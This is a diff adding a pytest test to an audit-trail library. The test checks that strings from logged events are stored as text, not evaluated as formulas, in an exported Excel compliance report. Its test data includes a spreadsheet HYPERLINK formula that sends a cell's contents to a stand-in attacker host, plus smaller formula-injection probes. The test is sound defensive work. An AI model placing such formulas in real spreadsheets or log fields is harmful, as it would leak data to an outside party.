@@ -8,9 +8,12 @@ checks that what the README promises is what the verifier and writer do.
 from __future__ import annotations
 
 import json
+from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
-from fapilog_notebook import storage
+import pytest
+
+from fapilog_notebook import AuditEventType, AuditTrail, storage
 from tests.test_attacks import DAYS, FORWARD_SECURE, day_file, forge_today, read_lines, write_trail
 
 
@@ -39,3 +42,31 @@ async def test_an_empty_file_planted_for_a_deleted_day_does_not_hide_the_day(
     assert "manifest_mismatch" in _kinds(report)
     messages = " ".join(report.findings["message"])
     assert DAYS[2].isoformat() in messages
+
+
+async def test_a_logged_value_never_becomes_a_formula_in_the_excel_report(tmp_path: Path) -> None:
+    """Whoever can log an event chooses its strings; a cell of the workbook the
+    auditor opens must show them as text, never evaluate them (formula injection)."""
+    openpyxl = pytest.importorskip("openpyxl")
+    from fapilog_notebook.compliance import compliance_report
+
+    hostile = '=HYPERLINK("https://attacker.example/?"&A1,"open")'
+    directory = tmp_path / "trail"
+    moments = iter(datetime(2026, 3, 2, 3, 0, tzinfo=UTC) + timedelta(minutes=n) for n in range(9))
+    async with AuditTrail(storage_path=directory, clock=lambda: next(moments)) as trail:
+        await trail.log_event(AuditEventType.CONFIG_CHANGED, hostile, user_id=hostile)
+        await trail.log_data_access("=1+1", "export", user_id="@SUM(1)")
+
+    path = compliance_report(directory, frameworks=["pci-dss"]).to_excel(tmp_path / "r.xlsx")
+
+    book = openpyxl.load_workbook(path)
+    formulas = [
+        (sheet.title, cell.coordinate, cell.value)
+        for sheet in book.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.data_type == "f"
+    ]
+    assert formulas == []
+    texts = {cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row}
+    assert hostile in texts
